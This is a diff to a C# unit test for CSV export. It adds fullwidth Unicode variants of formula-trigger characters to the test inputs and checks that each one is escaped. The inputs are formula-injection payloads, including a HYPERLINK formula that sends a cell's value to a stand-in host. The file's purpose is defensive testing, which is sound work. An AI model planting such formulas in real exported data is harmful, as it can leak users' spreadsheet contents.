@@ -52,6 +52,10 @@ public sealed class ExportacionTests
     [InlineData("+1+1")]
     [InlineData("-2+3")]
     [InlineData("@SUM(A1)")]
+    [InlineData("\uFF1D1+1")]
+    [InlineData("\uFF0B1")]
+    [InlineData("\uFF0D1")]
+    [InlineData("\uFF20SUM(A1)")]
     [InlineData("\t=1")]
     [InlineData("\r=1")]
     [InlineData("=HYPERLINK(\"https://x.example?\"&A1,\"ver\")")]
@@ -66,7 +70,7 @@ public sealed class ExportacionTests
 
         var lineas = Campos(Encoding.UTF8.GetString(await CsvAsync(hoja))[1..]);
         Assert.Equal("'=1", lineas[0][0]);
-        Assert.Equal(texto[0] is '=' or '+' or '-' or '@' or '\t' or '\r' ? "'" + texto : texto, lineas[1][0]);
+        Assert.Equal(texto[0] is '=' or '+' or '-' or '@' or '\uFF1D' or '\uFF0B' or '\uFF0D' or '\uFF20' or '\t' or '\r' ? "'" + texto : texto, lineas[1][0]);
     }
 
     [Fact]
